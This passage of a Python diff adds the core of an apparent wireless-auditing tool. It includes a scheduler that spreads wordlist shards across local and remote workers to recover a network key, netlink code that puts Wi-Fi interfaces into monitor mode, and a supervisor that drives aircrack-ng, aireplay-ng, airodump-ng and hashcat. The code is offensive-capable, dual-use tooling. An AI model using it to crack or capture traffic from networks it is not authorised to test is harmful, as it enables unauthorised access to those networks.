+            raise OSError(f"{self.name}: {result['error']}")
+        return None if result.get("cancelled") else result.get("key")
+
+    def _forward_cancel(self, cancel, finished):
+        while not finished.is_set():
+            if cancel.wait(0.1):
+                with self._lock:
+                    if finished.is_set():
+                        return
+                    try:
+                        self.stream.write(b'{"type": "cancel"}\n')
+                        self.stream.flush()
+                    except OSError:
+                        pass
+                return
+
+    def close(self):
+        try:
+            self.socket.close()
+        except OSError:
+            pass
+
+class ShardScheduler:
+    """
+    Hands wordlist shards from a work queue to workers (one thread each,
+    local or remote) until the key is found or the list is exhausted.
+    When the queue is empty, an idle worker takes a second copy of a shard
+    that has been running for more than 'straggler_factor' times what the
+    finished shards took for its size; whichever copy finishes first counts
+    and the other is stopped. Finding the key stops every worker at once.
+    A worker that fails puts its shard back and retires.
+    """
+    def __init__(self, shards, workers, straggler_factor=2.0):
+        self.shards = shards
+        self.workers = workers
+        self.straggler_factor = straggler_factor
+        self._pending = deque(shards)
+        self._running = {} # shard index -> [attempt]
+        self._done = set()
+        self._seconds_per_byte = [] # Of finished shards
+        self._condition = threading.Condition()
+        self._stopped = False
+        self.key = None
+        self.redispatched = 0
+        self.per_worker = {worker.name: {"shards": 0, "bytes": 0, "seconds": 0.0} for worker in workers}
+
+    def _straggler(self, now):
+        """The longest-running shard with a single copy that is overdue, or None."""
+        if not self._seconds_per_byte:
+            return None
+        rates = sorted(self._seconds_per_byte)
+        typical = rates[len(rates) // 2]
+        candidates = []
+        for index, attempts in self._running.items():
+            if len(attempts) == 1:
+                shard = attempts[0]["shard"]
+                elapsed = now - attempts[0]["started"]
+                if elapsed > self.straggler_factor * typical * (shard["end"] - shard["start"]):
+                    candidates.append((elapsed, index))
+        return self._running[max(candidates)[1]][0]["shard"] if candidates else None
+
+    def _next(self, worker):
+        with self._condition:
+            while not self._stopped:
+                shard = self._pending.popleft() if self._pending else self._straggler(time.monotonic())
+                if shard:
+                    attempts = self._running.setdefault(shard["index"], [])
+                    if attempts:
+                        self.redispatched += 1
+                    attempt = {"shard": shard, "worker": worker.name, "started": time.monotonic(),
+                               "cancel": threading.Event()}
+                    attempts.append(attempt)
+                    return attempt
+                if not self._running:
+                    return None # Everything is done
+                self._condition.wait(0.25)
+            return None
+
+    def _finish(self, attempt, key, failed=False):
+        shard = attempt["shard"]
+        with self._condition:
+            attempts = self._running.get(shard["index"], [])
+            if attempt in attempts:
+                attempts.remove(attempt)
+            if failed:
+                if not attempts and shard["index"] not in self._done:
+                    self._pending.appendleft(shard)
+            elif shard["index"] not in self._done and (key or not attempt["cancel"].is_set()):
+                self._done.add(shard["index"])
+                seconds = time.monotonic() - attempt["started"]
+                self._seconds_per_byte.append(seconds / max(1, shard["end"] - shard["start"]))
+                stats = self.per_worker[attempt["worker"]]
+                stats["shards"] += 1
+                stats["bytes"] += shard["end"] - shard["start"]
+                stats["seconds"] += seconds
+                for other in attempts:
+                    other["cancel"].set() # The slower copy of a re-dispatched shard
+                if key:
+                    self.key = key
+                    self._stop()
+            if not attempts:
+                self._running.pop(shard["index"], None)
+            self._condition.notify_all()
+
+    def _stop(self):
+        self._stopped = True
+        for attempts in self._running.values():
+            for attempt in attempts:
+                attempt["cancel"].set()
+
+    def stop(self):
+        with self._condition:
+            self._stop()
+            self._condition.notify_all()
+
+    def _work(self, worker):
+        while True:
+            attempt = self._next(worker)
+            if not attempt:
+                return
+            try:
+                key = worker.run(attempt["shard"], attempt["cancel"])
+            except (OSError, ValueError) as e:
+                print(f"{Colors.WARNING}Worker {worker.name} failed: {e}{Colors.ENDC}", file=sys.stderr)
+                self._finish(attempt, None, failed=True)
+                return
+            self._finish(attempt, key)
+
+    @property
+    def progress(self):
+        """(shards done, bytes done)."""
+        with self._condition:
+            done = [self.shards[index] for index in self._done]
+        return len(done), sum(shard["end"] - shard["start"] for shard in done)
+
+    def run(self, on_progress=None):
+        """
+        Cracks until the key is found or every shard is done. Returns
+        {key, seconds, shards, done, bytes, lines, redispatched, workers}.
+        """
+        started = time.monotonic()
+        threads = [threading.Thread(target=self._work, args=(worker,), daemon=True) for worker in self.workers]
+        for thread in threads:
+            thread.start()
+        try:
+            while True:
+                alive = [thread for thread in threads if thread.is_alive()]
+                if not alive:
+                    break
+                alive[0].join(0.25)
+                if on_progress:
+                    on_progress(*self.progress, time.monotonic() - started)
+        except KeyboardInterrupt:
+            self.stop()
+            for thread in threads:
+                thread.join()
+            raise
+        finally:
+            for worker in self.workers:
+                worker.close()
+        done, nbytes = self.progress
+        return {
+            "key": self.key, "seconds": time.monotonic() - started, "shards": len(self.shards), "done": done,
+            "bytes": nbytes, "lines": sum(self.shards[index]["lines"] for index in self._done),
+            "redispatched": self.redispatched, "workers": self.per_worker,
+        }
+
+class NetlinkError(OSError):
+    """A netlink request was answered with an error code."""
+
+class Netlink:
+    """
+    Minimal netlink socket: messages are packed by hand with struct and
+    attributes are returned as {attribute id: raw bytes}.
+    Raises OSError when netlink is not available.
+    """
+    NLMSG_ERROR, NLMSG_DONE = 2, 3
+    NLM_F_REQUEST, NLM_F_ACK, NLM_F_DUMP = 0x1, 0x4, 0x300
+
+    def __init__(self, protocol):
+        self.sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
+        self.sock.settimeout(2)
+        self.sock.bind((0, 0))
+        self._seq = 0
+
+    def close(self):
+        self.sock.close()
+
+    @staticmethod
+    def pack_attrs(attrs):
+        out = b''
+        for kind, value in attrs.items():
+            out += struct.pack('=HH', 4 + len(value), kind) + value
+            out += b'\0' * (-len(value) % 4)
+        return out
+
+    @staticmethod
+    def parse_attrs(data):
+        attrs, pos = {}, 0
+        while pos + 4 <= len(data):
+            length, kind = struct.unpack_from('=HH', data, pos)
+            if length < 4:
+                break
+            attrs[kind & 0x3fff] = data[pos + 4:pos + length] # Drop the nested/byte-order flags
+            pos += (length + 3) & ~3
+        return attrs
+
+    def transact(self, kind, payload, header_size, dump=False):
+        """
+        Sends one request and returns the attributes of every reply message;
+        'header_size' is the size of the fixed header in front of them.
+        Raises NetlinkError when the kernel answers with an error.
+        """
+        self._seq += 1
+        flags = self.NLM_F_REQUEST | self.NLM_F_ACK | (self.NLM_F_DUMP if dump else 0)
+        self.sock.send(struct.pack('=IHHII', 16 + len(payload), kind, flags, self._seq, 0) + payload)
+        replies = []
+        while True:
+            data = self.sock.recv(65536)
+            pos = 0
+            while pos + 16 <= len(data):
+                length, reply, _, seq, _ = struct.unpack_from('=IHHII', data, pos)
+                if length < 16:
+                    return replies
+                body = data[pos + 16:pos + length]
+                pos += (length + 3) & ~3
+                if seq != self._seq:
+                    continue
+                if reply == self.NLMSG_DONE:
+                    return replies
+                if reply == self.NLMSG_ERROR:
+                    code = -struct.unpack_from('=i', body)[0]
+                    if code:
+                        raise NetlinkError(code, os.strerror(code))
+                    return replies # Plain ACK
+                replies.append(self.parse_attrs(body[header_size:]))
+
+class RtNetlink(Netlink):
+    """rtnetlink client, used to bring links up and down without 'ip'."""
+    NETLINK_ROUTE = 0
+    RTM_NEWLINK = 16
+    IFF_UP = 0x1
+
+    def __init__(self):
+        super().__init__(self.NETLINK_ROUTE)
+
+    def set_up(self, ifindex, up):
+        # struct ifinfomsg: family, pad, type, index, flags, change
+        payload = struct.pack('=BxHiII', socket.AF_UNSPEC, 0, ifindex, self.IFF_UP if up else 0, self.IFF_UP)
+        self.transact(self.RTM_NEWLINK, payload, 16)
+
+class Nl80211(Netlink):
+    """
+    Generic netlink client for the kernel's nl80211 family, enough to list
+    wireless interfaces and change their type without 'iw'.
+    Raises OSError when netlink or nl80211 is not available.
+    """
+    NETLINK_GENERIC = 16
+    GENL_ID_CTRL = 0x10
+    CTRL_CMD_GETFAMILY = 3
+    CTRL_ATTR_FAMILY_ID = 1
+    CTRL_ATTR_FAMILY_NAME = 2
+
+    CMD_GET_WIPHY = 1
+    CMD_GET_INTERFACE = 5
+    CMD_SET_INTERFACE = 6
+    ATTR_WIPHY = 1
+    ATTR_WIPHY_NAME = 2
+    ATTR_IFINDEX = 3
+    ATTR_IFNAME = 4
+    ATTR_IFTYPE = 5
+    ATTR_MAC = 6
+    ATTR_WIPHY_BANDS = 22
+    ATTR_SPLIT_WIPHY_DUMP = 174
+    BAND_ATTR_FREQS = 1
+    FREQUENCY_ATTR_FREQ = 1
+    FREQUENCY_ATTR_DISABLED = 2
+    # nl80211_iftype values, named the way iwconfig prints modes
+    IFTYPES = {
+        1: 'Ad-Hoc', 2: 'Managed', 3: 'Master', 4: 'AP-VLAN', 5: 'Repeater',
+        6: 'Monitor', 7: 'Mesh', 8: 'P2P-client', 9: 'P2P-GO', 10: 'P2P-device',
+        11: 'OCB', 12: 'NAN',
+    }
+
+    def __init__(self):
+        super().__init__(self.NETLINK_GENERIC)
+        try:
+            family = self.request(self.GENL_ID_CTRL, self.CTRL_CMD_GETFAMILY,
+                                  {self.CTRL_ATTR_FAMILY_NAME: b'nl80211\0'})
+            self.family = struct.unpack('=H', family[0][self.CTRL_ATTR_FAMILY_ID][:2])[0]
+        except Exception:
+            self.close()
+            raise
+
+    def request(self, family, cmd, attrs=None, dump=False):
+        payload = struct.pack('=BBH', cmd, 1, 0) + self.pack_attrs(attrs or {})
+        return self.transact(family, payload, 4, dump)
+
+    def set_mode(self, ifindex, mode):
+        """Changes the interface type; the interface has to be down for most drivers."""
+        iftype = next(k for k, v in self.IFTYPES.items() if v.lower() == mode.lower())
+        self.request(self.family, self.CMD_SET_INTERFACE, {
+            self.ATTR_IFINDEX: struct.pack('=I', ifindex),
+            self.ATTR_IFTYPE: struct.pack('=I', iftype),
+        })
+
+    def interfaces(self):
+        """Every wireless interface: {ifindex, name, phy, mode, mac}."""
+        found = []
+        for attrs in self.request(self.family, self.CMD_GET_INTERFACE, dump=True):
+            if self.ATTR_IFINDEX not in attrs:
+                continue
+            iftype = struct.unpack('=I', attrs[self.ATTR_IFTYPE][:4])[0] if self.ATTR_IFTYPE in attrs else None
+            found.append({
+                "ifindex": struct.unpack('=I', attrs[self.ATTR_IFINDEX][:4])[0],
+                "name": attrs.get(self.ATTR_IFNAME, b'').rstrip(b'\0').decode(),
+                "phy": f"phy{struct.unpack('=I', attrs[self.ATTR_WIPHY][:4])[0]}" if self.ATTR_WIPHY in attrs else None,
+                "mode": self.IFTYPES.get(iftype),
+                "mac": attrs[self.ATTR_MAC].hex(':') if self.ATTR_MAC in attrs else None,
+            })
+        return found
+
+    def wiphy_frequencies(self):
+        """
+        The frequencies (MHz) each radio can tune to, disabled channels left
+        out: {phy name: set}. Asks for a split dump, newer kernels spread the
+        band data of a radio over several messages.
+        """
+        names, found = {}, {}
+        for attrs in self.request(self.family, self.CMD_GET_WIPHY, {self.ATTR_SPLIT_WIPHY_DUMP: b''}, dump=True):
+            if self.ATTR_WIPHY not in attrs:
+                continue
+            index = struct.unpack('=I', attrs[self.ATTR_WIPHY][:4])[0]
+            if self.ATTR_WIPHY_NAME in attrs:
+                names[index] = attrs[self.ATTR_WIPHY_NAME].rstrip(b'\0').decode()
+            frequencies = found.setdefault(index, set())
+            for band in self.parse_attrs(attrs.get(self.ATTR_WIPHY_BANDS, b'')).values():
+                for channel in self.parse_attrs(self.parse_attrs(band).get(self.BAND_ATTR_FREQS, b'')).values():
+                    channel = self.parse_attrs(channel)
+                    if self.FREQUENCY_ATTR_FREQ in channel and self.FREQUENCY_ATTR_DISABLED not in channel:
+                        frequencies.add(struct.unpack('=I', channel[self.FREQUENCY_ATTR_FREQ][:4])[0])
+        return {names.get(index, f"phy{index}"): frequencies for index, frequencies in found.items()}
+
+class InterfaceDiscovery:
+    """
+    Lists wireless interfaces in-process from sysfs: an interface is wireless
+    when /sys/class/net/<name> has a 'phy80211' link or a 'wireless'
+    directory. The ARP hardware type tells monitor (803, radiotap) from
+    managed (1, ethernet) interfaces; nl80211 refines that to the exact
+    mode (AP, ad-hoc, ...) when it is available.
+    'sysfs_root' and 'netlink' exist so a fake tree and a fake nl80211
+    client can be used instead of the real ones.
+    """
+    ARPHRD_MODES = {1: 'Managed', 801: 'Monitor', 802: 'Monitor', 803: 'Monitor'} # IEEE80211, PRISM, RADIOTAP
+    IFF_UP = 0x1
+
+    def __init__(self, sysfs_root='/sys', netlink=Nl80211):
+        self.sysfs_root = sysfs_root
+        self.netlink = netlink
+
+    def _read(self, *parts):
+        try:
+            with open(os.path.join(self.sysfs_root, 'class', 'net', *parts)) as f:
+                return f.read().strip()
+        except OSError:
+            return None
+
+    def interfaces(self):
+        """
+        Returns a list of interface records sorted by name:
+        {name, ifindex, mode, phy, driver, mac, up, type}. 'mode' is None
+        when the hardware type is not one we know.
+        """
+        net = os.path.join(self.sysfs_root, 'class', 'net')
+        try:
+            names = sorted(os.listdir(net))
+        except OSError:
+            return []
+        records = []
+        for name in names:
+            base = os.path.join(net, name)
+            phy_link = os.path.join(base, 'phy80211')
+            if not (os.path.exists(phy_link) or os.path.isdir(os.path.join(base, 'wireless'))):
+                continue
+            arphrd = self._read(name, 'type')
+            flags = self._read(name, 'flags')
+            ifindex = self._read(name, 'ifindex')
+            driver = os.path.join(base, 'device', 'driver')
+            records.append({
+                "name": name,
+                "ifindex": int(ifindex) if ifindex and ifindex.isdigit() else None,
+                "mode": self.ARPHRD_MODES.get(int(arphrd)) if arphrd and arphrd.isdigit() else None,
+                "phy": os.path.basename(os.path.realpath(phy_link)) if os.path.exists(phy_link) else None,
+                "driver": os.path.basename(os.path.realpath(driver)) if os.path.exists(driver) else None,
+                "mac": (self._read(name, 'address') or '').upper() or None,
+                "up": bool(int(flags, 16) & self.IFF_UP) if flags else None,
+                "type": int(arphrd) if arphrd and arphrd.isdigit() else None,
+            })
+        if records and self.netlink:
+            self._refine(records)
+        return records
+
+    def _refine(self, records):
+        """Takes the exact mode from nl80211; the sysfs values stay if it is unavailable."""
+        try:
+            client = self.netlink()
+        except OSError:
+            return
+        try:
+            by_name = {entry["name"]: entry for entry in client.interfaces()}
+        except OSError:
+            return
+        finally:
+            client.close()
+        for record in records:
+            entry = by_name.get(record["name"])
+            if entry:
+                record["mode"] = entry["mode"] or record["mode"]
+                record["phy"] = record["phy"] or entry["phy"]
+
+    def frequencies(self, names):
+        """
+        {interface: set of frequencies it can tune to} for the given
+        interfaces, from the channel list nl80211 reports for the radio
+        behind each one. An interface maps to None when its list is unknown
+        (no nl80211, or no phy link in sysfs).
+        """
+        phys = {record["name"]: record["phy"] for record in self.interfaces()}
+        per_phy = {}
+        if self.netlink:
+            try:
+                client = self.netlink()
+            except OSError:
+                client = None
+            if client:
+                try:
+                    per_phy = client.wiphy_frequencies()
+                except OSError:
+                    pass
+                finally:
+                    client.close()
+        return {name: per_phy.get(phys.get(name)) or None for name in names}
+
+    def get(self, name):
+        """The record for one interface, or None if it is not a wireless interface."""
+        return next((record for record in self.interfaces() if record["name"] == name), None)
+
+class ModeSwitchError(Exception):
+    """Switching an interface failed; 'step' is what was being done."""
+    def __init__(self, interface, step, cause):
+        super().__init__(f"{interface}: {step} failed: {cause}")
+        self.interface = interface
+        self.step = step
+        self.cause = cause
+
+class NetlinkModeBackend:
+    """Changes link state and interface type in-process with rtnetlink/nl80211."""
+    name = 'netlink'
+
+    def __init__(self):
+        self.nl80211 = Nl80211()
+        try:
+            self.rtnl = RtNetlink()
+        except OSError:
+            self.nl80211.close()
+            raise
+
+    def set_up(self, record, up):
+        self.rtnl.set_up(record["ifindex"], up)
+
+    def set_mode(self, record, mode):
+        self.nl80211.set_mode(record["ifindex"], mode)
+
+    def close(self):
+        self.nl80211.close()
+        self.rtnl.close()
+
+class CommandModeBackend:
+    """
+    Fallback for systems without nl80211: 'ip' and 'iw' when installed,
+    otherwise 'ifconfig' and 'iwconfig' as the program always did.
+    """
+    name = 'commands'
+
+    def __init__(self, tools=None):
+        self.tools = tools or ToolRegistry()
+
+    @staticmethod
+    def _run(command):
+        try:
+            subprocess.run(command, check=True, capture_output=True, text=True)
+        except subprocess.CalledProcessError as e:
+            raise OSError(f"'{' '.join(command)}': {e.stderr.strip() or e.returncode}")
+
+    def set_up(self, record, up):
+        state = 'up' if up else 'down'
+        if self.tools.available('ip'):
+            self._run(['ip', 'link', 'set', record["name"], state])
+        else:
+            self._run(['ifconfig', record["name"], state])
+
+    def set_mode(self, record, mode):
+        if self.tools.available('iw'):
+            self._run(['iw', 'dev', record["name"], 'set', 'type', mode.lower()])
+        else:
+            self._run(['iwconfig', record["name"], 'mode', mode.lower()])
+
+    def close(self):
+        pass
+
+class ModeSwitcher:
+    """
+    Puts several interfaces into a mode at once, one worker thread per
+    interface: link down, change type, link up, then re-read sysfs to
+    confirm the mode really changed. If any interface fails, every interface
+    of the batch is put back to the mode and up/down state it had before, so
+    a rig never stays half switched.
+    'backend' is called once per interface to get a fresh backend, which is
+    where a fake netlink layer can be plugged in.
+    """
+    CONFIRM_TIMEOUT = 2.0
+
+    def __init__(self, discovery, backend=None, tools=None):
+        self.discovery = discovery
+        self.tools = tools
+        self.backend = backend or self._default_backend
+
+    def _default_backend(self):
+        try:
+            return NetlinkModeBackend()
+        except OSError:
+            return CommandModeBackend(self.tools)
+
+    def _confirm(self, name, mode, up):
+        deadline = time.monotonic() + self.CONFIRM_TIMEOUT
+        while True:
+            record = self.discovery.get(name)
+            if record and (record["mode"] or '').lower() == mode.lower() and record["up"] == up:
+                return record
+            if time.monotonic() >= deadline:
+                found = record["mode"] if record else 'missing'
+                raise OSError(f"interface reports mode {found}")
+            time.sleep(0.05)
+
+    def _apply(self, record, mode, up):
+        backend = self.backend()
+        step = 'netlink'
+        try:
+            step = 'link down'
+            backend.set_up(record, False)
+            step = f"set {mode.lower()} mode"
+            backend.set_mode(record, mode)
+            if up:
+                step = 'link up'
+                backend.set_up(record, True)
+            step = 'confirm'
+            return dict(self._confirm(record["name"], mode, up), backend=backend.name)
+        except OSError as e:
+            raise ModeSwitchError(record["name"], step, e)
+        finally:
+            backend.close()
+
+    def switch(self, targets):
+        """
+        Switches {interface: mode} and returns {interface: record} with the
+        confirmed state. Interfaces already in the requested mode are left
+        alone. Raises ModeSwitchError after rolling the batch back.
+        """
+        records = {record["name"]: record for record in self.discovery.interfaces()}
+        for name in targets:
+            if name not in records:
+                raise ModeSwitchError(name, 'lookup', 'not a wireless interface')
+        pending = {name: mode for name, mode in targets.items()
+                   if (records[name]["mode"] or '').lower() != mode.lower() or not records[name]["up"]}
+        results = {name: records[name] for name in targets if name not in pending}
+        errors = []
+        from concurrent.futures import ThreadPoolExecutor
+        with ThreadPoolExecutor(max_workers=max(1, len(pending))) as pool:
+            futures = {pool.submit(self._apply, records[name], mode, True): name for name, mode in pending.items()}
+            for future, name in futures.items():
+                try:
+                    results[name] = future.result()
+                except ModeSwitchError as e:
+                    errors.append(e)
+        if errors:
+            self._rollback([records[name] for name in pending])
+            raise errors[0]
+        return results
+
+    def _rollback(self, previous):
+        """Restores mode and link state, best effort: the original error is what matters."""
+        def restore(record):
+            try:
+                if record["mode"]:
+                    self._apply(record, record["mode"], bool(record["up"]))
+            except ModeSwitchError:
+                pass
+        from concurrent.futures import ThreadPoolExecutor
+        with ThreadPoolExecutor(max_workers=max(1, len(previous))) as pool:
+            list(pool.map(restore, previous))
+
+class ToolRegistry:
+    """
+    What the external tools on this machine can do, resolved in-process from
+    PATH once at startup instead of forking 'which' for every action.
+    Versions and the hashcat backend devices need the tool itself to run,
+    so they are looked up on first use and kept in a cache file keyed by the
+    binary's path, size and mtime; an upgraded tool is probed again.
+    """
+    TOOLS = ('iwconfig', 'iw', 'ip', 'airmon-ng', 'airodump-ng', 'aireplay-ng',
+             'aircrack-ng', 'hashcat', 'nmcli', 'systemctl')
+    # The first one found on PATH is used, with the flag that makes it run a command
+    TERMINALS = (
+        ('x-terminal-emulator', '-e'), ('gnome-terminal', '--'),
+        ('konsole', '-e'), ('xfce4-terminal', '-e')
+    )
+    # aircrack-ng tools have no --version, their help screen starts with it
+    VERSION_FLAGS = {'aircrack-ng': '--help', 'airodump-ng': '--help', 'aireplay-ng': '--help'}
+
+    def __init__(self, path=None):
+        self.path = path or os.path.join(CACHE_DIR, 'tools.json')
+        try:
+            with open(self.path) as f:
+                self._probes = json.load(f)
+        except (OSError, ValueError):
+            self._probes = {}
+        self.refresh()
+
+    def refresh(self):
+        """Resolves every tool and terminal emulator on the current PATH again."""
+        self._search_path = os.environ.get('PATH', os.defpath)
+        self._paths = {name: shutil.which(name) for name in self.TOOLS}
+        self._terminal = None
+        for term, arg in self.TERMINALS:
+            found = shutil.which(term)
+            if found:
+                self._terminal = [found, arg]
+                break
+
+    def _check(self):
+        # PATH changes (e.g. a virtualenv) invalidate everything we resolved
+        if os.environ.get('PATH', os.defpath) != self._search_path:
+            self.refresh()
+
+    def which(self, name):
+        """Full path of a tool, or None when it is not installed."""
+        self._check()
+        if name not in self._paths:
+            self._paths[name] = shutil.which(name)
+        found = self._paths[name]
+        if found and not os.access(found, os.X_OK):
+            # Uninstalled since startup
+            found = self._paths[name] = shutil.which(name)
+        return found
+
+    def available(self, name):
+        return self.which(name) is not None
+
+    def terminal(self):
+        """[emulator, flag] to prefix a command with, or None."""
+        self._check()
+        return list(self._terminal) if self._terminal else None
+
+    def _probe(self, name, key, run):
+        """Result of run(path), cached per binary until the binary changes."""
+        found = self.which(name)
+        if not found:
+            return None
+        st = os.stat(found)
+        stamp = f"{found}|{st.st_size}|{st.st_mtime_ns}"
+        entry = self._probes.get(name, {})
+        if entry.get('stamp') != stamp:
+            entry = self._probes[name] = {'stamp': stamp}
+        if key not in entry:
+            entry[key] = run(found)
+            try:
+                atomic_write_json(self.path, self._probes)
+            except OSError:
+                pass
+        return entry[key]
+
+    def version(self, name):
+        """Version string of a tool, e.g. '6.2.6', or None if unknown."""
+        def run(found):
+            try:
+                result = subprocess.run(
+                    [found, self.VERSION_FLAGS.get(name, '--version')],
+                    capture_output=True, text=True, timeout=10
+                )
+            except (OSError, subprocess.TimeoutExpired):
+                return None
+            match = re.search(r"v?(\d+(?:\.\d+)+)", result.stdout + result.stderr)
+            return match.group(1) if match else None
+        return self._probe(name, 'version', run)
+
+    def hashcat_devices(self):
+        """
+        Backend devices hashcat can use, from 'hashcat -I': a list of
+        {backend: 'CUDA'/'OpenCL'/..., id, type, name}. Empty when hashcat
+        is missing or finds no usable device.
+        """
+        def run(found):
+            try:
+                output = subprocess.run(
+                    [found, '-I', '--quiet'], capture_output=True, text=True, timeout=60
+                ).stdout
+            except (OSError, subprocess.TimeoutExpired):
+                return []
+            return self.parse_backend_info(output)
+        return self._probe('hashcat', 'devices', run) or []
+
+    @staticmethod
+    def parse_backend_info(output):
+        devices, backend, device = [], None, None
+        for line in output.splitlines():
+            header = re.match(r"^(\w+) Info:", line)
+            if header:
+                backend, device = header.group(1), None
+                continue
+            match = re.match(r"\s*Backend Device ID #(\d+)", line)
+            if match and backend:
+                device = {'backend': backend, 'id': int(match.group(1)), 'type': None, 'name': None}
+                devices.append(device)
+                continue
+            field = re.match(r"\s*(Type|Name)\.*:\s*(.*)", line)
+            if field and device is not None:
+                device[field.group(1).lower()] = field.group(2).strip()
+        return devices
+
+    def has_gpu_backend(self):
+        """True when hashcat found a GPU through OpenCL, CUDA, HIP or Metal."""
+        # CUDA/HIP only list GPUs and print no Type line
+        return any(device['type'] in (None, 'GPU') for device in self.hashcat_devices())
+
+class SupervisedProcess:
+    """
+    A child process owned by a ProcessSupervisor. Its fields are updated by
+    the supervisor and can be read from any thread.
+    """
+    def __init__(self, name, command, interactive):
+        self.name = name
+        self.command = command
+        self.interactive = interactive
+        self.pid = None
+        self.started = None
+        self.ended = None
+        self.returncode = None
+        self.timed_out = False
+        self.cpu_time = 0.0
+        self.rss = 0
+        self.peak_rss = 0
+        self.lines = 0
+        self.tail = deque(maxlen=20) # Last output lines, shown when the process fails
+        self.info = {} # Free for output parsers to keep what they extract
+        self.finished = threading.Event()
+        self._process = None
+
+    @property
+    def running(self):
+        return self.started is not None and not self.finished.is_set()
+
+    @property
+    def runtime(self):
+        if self.started is None:
+            return 0.0
+        return (self.ended or time.monotonic()) - self.started
+
+    def wait(self, timeout=None):
+        """Waits for the process to end; returns its exit code or None on timeout."""
+        self.finished.wait(timeout)
+        return self.returncode
+
+    def stats(self):
+        return {
+            "name": self.name, "pid": self.pid, "runtime": round(self.runtime, 2),
+            "cpu": round(self.cpu_time, 2), "rss": self.rss, "peak_rss": self.peak_rss,
+            "lines": self.lines, "returncode": self.returncode, "timed_out": self.timed_out,
+        }
+
+    def summary(self):
+        if self.returncode is None:
+            state = "running"
+        elif self.timed_out:
+            state = "timed out"
+        else:
+            state = f"exit {self.returncode}"
+        return (f"{self.name} (pid {self.pid}): {self.runtime:.1f}s, CPU {self.cpu_time:.2f}s, "
+                f"peak RSS {format_size(self.peak_rss)}, {state}")
+
+class ProcessSupervisor:
+    """
+    Owns the long-running tools (airodump-ng, aireplay-ng, ...) started by the
+    program. An asyncio loop on a background thread reads their output without
+    blocking the UI, samples CPU time and RSS from /proc, enforces timeouts and
+    stops them with SIGINT, then SIGTERM, then SIGKILL. Everything still
+    running is shut down the same way when the program exits.
+
+    asyncio is imported when the first process starts, it is slow to import
+    and most command line runs never need it.
+    """
+    # Signal to send and how long to wait for the process before escalating
+    SHUTDOWN = ((signal.SIGINT, 3.0), (signal.SIGTERM, 2.0), (signal.SIGKILL, 1.0))
+    ANSI = re.compile(rb'\x1b\[[0-9;?]*[A-Za-z]')
+
+    def __init__(self, sample_interval=1.0):
+        self.sample_interval = sample_interval
+        self.children = []
+        self._loop = None
+        self._lock = threading.Lock()
+        atexit.register(self.shutdown)
+
+    def _run(self, coroutine):
+        """Runs a coroutine on the supervisor loop and waits for its result."""
+        import asyncio
+        with self._lock:
+            if self._loop is None:
+                self._loop = asyncio.new_event_loop()
+                threading.Thread(target=self._loop.run_forever, daemon=True).start()
+        return asyncio.run_coroutine_threadsafe(coroutine, self._loop).result()
+
+    def start(self, command, name=None, on_line=None, timeout=None, interactive=False, **popen_kwargs):
+        """
+        Starts a supervised process and returns its SupervisedProcess.
+        Output is split into lines (airodump-ng and aireplay-ng redraw with
+        '\r'), stripped of terminal escapes and passed to on_line(child, line)
+        on the supervisor thread, so callbacks must be quick. An interactive
+        process keeps the terminal instead and shares our process group, so
+        it still gets Ctrl+C and keyboard input.
+        Raises FileNotFoundError like subprocess.Popen.
+        """
+        child = SupervisedProcess(name or os.path.basename(command[0]), list(command), interactive)
+        self._run(self._spawn(child, on_line, timeout, popen_kwargs))
+        self.children.append(child)
+        return child
+
+    async def _spawn(self, child, on_line, timeout, popen_kwargs):
+        import asyncio
+        if not child.interactive:
+            popen_kwargs.setdefault('stdin', subprocess.DEVNULL)
+            popen_kwargs.update(stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True)
+        child._process = await asyncio.create_subprocess_exec(*child.command, **popen_kwargs)
+        child.pid = child._process.pid
+        child.started = time.monotonic()
+        asyncio.ensure_future(self._watch(child, on_line, timeout))
+
+    async def _watch(self, child, on_line, timeout):
+        import asyncio
+        process = child._process
+        tasks = [asyncio.ensure_future(self._sample(child))]
+        if not child.interactive:
+            tasks.append(asyncio.ensure_future(self._read(child, on_line)))
+        try:
+            await asyncio.wait_for(asyncio.shield(process.wait()), timeout)
+        except asyncio.TimeoutError:
+            child.timed_out = True
+            await self._stop(child)
+        if not child.interactive:
+            # Let the reader drain what the process wrote before it ended
+            await asyncio.wait([tasks[1]], timeout=1)
+        for task in tasks:
+            task.cancel()
+        child.returncode = process.returncode
+        child.ended = time.monotonic()
+        child.finished.set()
+
+    async def _read(self, child, on_line):
+        pending = b''
+        while True:
+            data = await child._process.stdout.read(65536)
+            if not data:
+                break
+            *lines, pending = re.split(rb'[\r\n]', pending + data)
+            for line in lines:
+                line = self.ANSI.sub(b'', line).decode('utf-8', 'replace').strip()
+                if not line:
+                    continue
+                child.lines += 1
+                child.tail.append(line)
+                if on_line:
+                    try:
+                        on_line(child, line)
+                    except Exception:
+                        pass # A broken parser must not stop the output from being drained
+
+    async def _sample(self, child):
+        import asyncio
+        while True:
+            self.sample_usage(child)
+            await asyncio.sleep(self.sample_interval)
+
+    @staticmethod
+    def sample_usage(child):
+        """Reads CPU time and RSS of a process from /proc/<pid>/stat."""
+        try:
+            with open(f"/proc/{child.pid}/stat", 'rb') as f:
+                # The command name can contain spaces, the fields start after its ')'
+                fields = f.read().rsplit(b')', 1)[1].split()
+        except (OSError, IndexError):
+            return
+        child.cpu_time = (int(fields[11]) + int(fields[12])) / os.sysconf('SC_CLK_TCK')
+        child.rss = int(fields[21]) * mmap.PAGESIZE
+        child.peak_rss = max(child.peak_rss, child.rss)
+
+    @staticmethod
+    def _alive(child):
+        """Whether the process, or for a non-interactive one anything left in its process group, still runs."""
+        if child._process.returncode is None:
+            return True
+        if child.interactive:
+            return False
+        try:
+            os.killpg(child._process.pid, 0)
+        except (ProcessLookupError, PermissionError):
+            return False
+        return True
+
+    async def _stop(self, child):
+        import asyncio
+        process = child._process
+        for sig, grace in self.SHUTDOWN:
+            if not self._alive(child):
+                return
+            try:
+                if child.interactive:
+                    process.send_signal(sig)
+                else:
+                    # Own session: signal the whole group, tools like airmon-ng fork helpers.
+                    # A helper can outlive the tool (and ignore SIGINT, like background jobs of a script)
+                    os.killpg(process.pid, sig)
+            except ProcessLookupError:
+                return
+            deadline = time.monotonic() + grace
+            while self._alive(child) and time.monotonic() < deadline:
+                await asyncio.sleep(0.05)
+
+    def stop(self, *children):
+        """Stops the given processes (all of them by default) and waits for them."""
+        import asyncio
+        # A tool that already exited can leave helpers behind in its process group
+        running = [c for c in (children or self.children) if c.started is not None and self._alive(c)]
+        if not running:
+            return
+        async def stop_all():
+            await asyncio.gather(*(self._stop(c) for c in running))
